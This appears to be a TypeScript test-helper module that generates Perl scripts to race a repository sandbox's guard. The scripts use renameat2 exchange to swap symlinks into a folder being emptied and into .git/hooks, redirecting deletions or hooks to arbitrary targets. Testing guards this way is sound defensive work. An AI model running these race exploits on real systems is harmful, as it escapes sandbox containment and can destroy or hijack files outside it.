// Programs that race against the guard of a repository from inside the sandbox, in Perl: two names
// change places at once, so that there is never a moment without either.

/** renameat2. */
const CALL_NUMBERS: Readonly<Record<string, number>> = { x64: 316, arm64: 276 };

const EXCHANGE = `sub exchange { my ($one, $other) = @_; return syscall(${CALL_NUMBERS[process.arch] ?? 316}, -100, $one, -100, $other, 2) == 0 }`;

/**
 * Puts a full folder there by a forbidden name and, when somebody begins to empty it, a link in the
 * place of the folder in it. Its files have the names of those that it is after.
 */
export function emptyingRace(target: string, names: readonly string[]): string {
  return `use strict; ${EXCHANGE}
    mkdir ".git/stage"; mkdir ".git/stage/d"; symlink "${target}", ".git/lnk";
    for my $name ((map { "filler$_" } 1..4000), qw(${names.join(" ")})) { open(my $f, ">", ".git/stage/d/$name"); close $f }
    opendir(my $folder, ".git/stage/d"); my $first;
    while (my $name = readdir $folder) { if ($name =~ /^filler/) { $first = $name; last } }
    rename ".git/stage", ".git/commondir";
    for (1..500000) { last unless -e ".git/commondir/d/$first" }
    print exchange(".git/lnk", ".git/commondir/d") ? "exchanged" : "too late", "\\n";
    select(undef, undef, undef, 0.4);`;
}

/** Puts a link in the place of hooks whenever somebody has made that folder, and takes it back. */
export function hooksRace(target: string): string {
  return `use strict; ${EXCHANGE}
    system("git init -q && rm -rf .git/hooks"); symlink "${target}", ".git/lnk";
    open(my $f, ">", "begun"); close $f;
    my $end = time + 30;
    while (time < $end) {
      for (1..1000) {
        next unless exchange(".git/lnk", ".git/hooks");
        select(undef, undef, undef, 0.002);
        rename ".git/hooks", ".git/link"; rmdir ".git/lnk"; rename ".git/link", ".git/lnk";
      }
    }`;
}
